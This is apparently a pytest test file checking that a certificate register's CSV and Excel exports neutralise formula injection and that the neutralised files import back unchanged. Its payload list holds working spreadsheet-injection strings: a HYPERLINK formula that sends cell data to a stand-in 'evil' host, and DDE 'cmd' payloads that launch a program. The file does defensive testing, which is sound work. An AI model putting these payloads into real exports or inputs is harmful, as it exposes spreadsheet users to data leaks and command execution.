"""Register export never hands Excel a live formula (CSV/Excel injection, issue 12).

A contractor's name or a remark typed as ``=HYPERLINK("http://evil", "点击")`` or
``@SUM(1+1)*cmd|' /C calc'!A0`` must open in Excel as the text it is, in both the .xlsx and
the .csv export, and still import back unchanged; numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook
from sqlalchemy.orm import Session

from registers.certificates.models import Certificate, CertificateKind
from registers.certificates.schemas import CertificateCreate
from registers.certificates.service import register
from registers.framework.exporting import export_csv, export_header, export_xlsx
from registers.framework.importing import import_file

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1, "点击查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _records(session: Session) -> list[Certificate]:
    records = []
    for index, payload in enumerate(PAYLOADS):
        data = CertificateCreate(
            kind=CertificateKind.SAFETY_LICENCE,
            number=f"N-{index}",
            holder=payload,
            remarks="-12.5",  # a number written as text: Excel reads it as a number, not a formula
            issue_date=date(2024, 3, 1),
        )
        records.append(register.create(session=session, data=data, actor="a"))
    session.flush()
    return records


def test_xlsx_export_stores_formula_like_text_as_text(session: Session) -> None:
    records = _records(session)
    content = export_xlsx(register, records)
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]  # not read-only: formulas keep data_type "f"
    header = export_header(register)
    holder = header.index(register.label("holder"))
    version = header.index("版本")
    rows = list(sheet.iter_rows(min_row=2))
    assert [row[holder].value for row in rows] == PAYLOADS  # the text itself, nothing added
    for row in rows:
        cell = row[holder]
        assert cell.data_type == "s", (cell.value, cell.data_type)
        assert cell.quotePrefix, cell.value  # Excel keeps it text even after the cell is edited
        assert row[version].data_type == "n" and row[version].value == 1  # numbers stay numbers


def test_csv_export_prefixes_formula_like_text(session: Session) -> None:
    records = _records(session)
    # the schema strips blanks, but rows written by other paths (SQL, old imports) may start with them
    session.execute(sa.update(Certificate).where(Certificate.number == "N-0").values(remarks="\t=1+1"))
    session.execute(sa.update(Certificate).where(Certificate.number == "N-1").values(remarks="\r=1+1"))
    session.expire_all()
    text = export_csv(register, records).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    header = rows[0]
    holder, remarks = header.index(register.label("holder")), header.index(register.label("remarks"))
    for row, payload in zip(rows[1:], PAYLOADS, strict=True):
        assert not row[holder].startswith(FORMULA_START), row[holder]
        assert row[holder] == "'" + payload
    assert [row[remarks] for row in rows[1:3]] == ["'\t=1+1", "'\r=1+1"]
    for row in rows[3:]:
        assert row[remarks] == "-12.5"  # a plain number is no formula: left as Excel reads it
    assert {row[header.index("版本")] for row in rows[1:]} == {"1"}


@pytest.mark.parametrize("kind", ["xlsx", "csv"])
def test_neutralised_export_imports_back_unchanged(session: Session, kind: str) -> None:
    records = _records(session)
    before = sorted((r.number, r.holder, r.remarks) for r in records)
    content = export_xlsx(register, records) if kind == "xlsx" else export_csv(register, records)
    for record in records:
        register.soft_delete(session=session, record_id=record.id, actor="a")
    report = import_file(register, session=session, content=content, filename=f"e.{kind}", actor="a")
    assert report.imported == len(PAYLOADS)
    after = sorted((r.number, r.holder, r.remarks) for r in register.list(session=session, size=50).items)
    assert after == before
